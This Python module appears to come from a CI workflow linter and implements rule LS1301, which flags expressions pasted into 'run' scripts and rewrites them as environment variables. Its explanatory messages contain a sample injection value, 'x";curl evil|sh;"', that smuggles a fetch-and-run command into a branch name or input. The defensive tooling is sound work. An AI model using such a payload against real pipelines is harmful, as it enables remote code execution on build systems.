"""Scripts of ``run``: no expression is ever pasted into them (LS1301).

A value reaches a script as an environment variable, which no shell reads as code. Every context is
exported under a name made from its path: ``inputs.version`` is ``$INPUT_VERSION``.
"""

import re
from collections.abc import Iterator, Mapping
from typing import Final

from linkspan.sdk.diagnostics import Edit
from linkspan.workflows.expressions import ExpressionInvalid, parse, plain_text
from linkspan.workflows.expressions.syntax import Expr, Member, Name
from linkspan.workflows.expressions.types import Json
from linkspan.workflows.parse import Node, Scalar
from linkspan.workflows.reader import Reader
from linkspan.workflows.values import OPEN, TemplateInvalid, placeholders

_PREFIXES: Final = {
    "matrix": "MATRIX",
    "inputs": "INPUT",
    "needs": "NEEDS",
    "steps": "STEPS",
    "git": "GIT",
    "run": "RUN",
    "job": "JOB",
}
_WHY: Final = {
    "git": 'a branch may be called  x";curl evil|sh;"',
    "inputs": 'whoever starts the run may write  x";curl evil|sh;"',
}


def variable(*path: str) -> str:
    """The environment variable of a path: ``needs build outputs digest`` → ``NEEDS_BUILD_DIGEST``."""
    parts = [part for part in path if part != "outputs"]
    return re.sub(r"[^A-Z0-9]", "_", "_".join(parts).upper())


def exports(contexts: Mapping[str, Json]) -> Iterator[tuple[str, str]]:
    """Name and value of each variable that a script gets from the contexts.

    Lists and mappings among inputs and outputs are not exported; null is left out.
    """
    for context, prefix in _PREFIXES.items():
        yield from _export((prefix,), contexts.get(context, {}), 0)


def _export(path: tuple[str, ...], value: Json, depth: int) -> Iterator[tuple[str, str]]:
    match value:
        case Mapping() if depth < 3:
            for key, item in value.items():
                yield from _export((*path, key), item, depth + 1)
        case Mapping() | list() | tuple() | None:
            pass
        case _:
            yield variable(*path), plain_text(value)


def check_script(reader: Reader, node: Node) -> str | None:
    """The script, or None with a fault for each expression in it."""
    if not isinstance(node, Scalar) or OPEN not in node.text:
        return reader.text(node, "'run'")
    try:
        found = list(placeholders(node.text))
    except TemplateInvalid as invalid:
        reader.expression_faults(node, invalid.faults)
        return None
    for start, source_start, source_end, end in found:
        source = node.text[source_start:source_end]
        root, name = variable_of(source)
        reader.fault(
            "LS1301",
            "an expression inside `run` would be pasted into the script before the shell sees it",
            reader.document.span_at(reader.document.index_in(node, start), end - start),
            _WHY.get(root, ""),
            helps=_helps(node.text, start, end, source, name),
            edits=_edits(reader, node, start, end, name),
        )
    return None


def _helps(script: str, start: int, end: int, source: str, name: str) -> list[str]:
    if not name:
        return [f"put it into `env` and read it there:  env: {{VALUE: '${{{{ {source} }}}}'}}"]
    line_start = script.rfind("\n", 0, start) + 1
    line_end = script.find("\n", end)
    line = script[line_start:start] + f"${name}" + script[end : None if line_end < 0 else line_end]
    return [
        f"already available as an environment variable:  {line.strip()}",
        "`linkspan workflow lint --fix` rewrites all of them",
    ]


def _edits(reader: Reader, node: Scalar, start: int, end: int, name: str) -> list[Edit]:
    """``$NAME`` in place of the expression; in single quotes the shell would not read it."""
    line_start = node.text.rfind("\n", 0, start) + 1
    if not name or node.text.count("'", line_start, start) % 2:
        return []
    follows = node.text[end : end + 1]
    text = f"${{{name}}}" if follows.isalnum() or follows == "_" else f"${name}"
    document = reader.document
    first, last = document.index_in(node, start), document.index_in(node, end - 1) + 1
    if document.text[first:last] != node.text[start:end]:
        # Folded or escaped: what stands in the file is not what the script says.
        return []
    return [Edit(start=first, end=last, text=text)]


def variable_of(source: str) -> tuple[str, str]:
    """The context an expression begins with, and the variable that holds it; both may be empty."""
    try:
        path = _path(parse(source))
    except ExpressionInvalid:
        return "", ""
    if not path:
        return "", ""
    root, *rest = path
    if root == "env" and len(rest) == 1:
        return root, rest[0]
    if root in _PREFIXES and rest:
        return root, variable(_PREFIXES[root], *rest)
    return root, ""


def _path(tree: Expr) -> list[str]:
    if isinstance(tree, Name):
        return [tree.name]
    if isinstance(tree, Member):
        base = _path(tree.base)
        return [*base, tree.name] if base else []
    return []
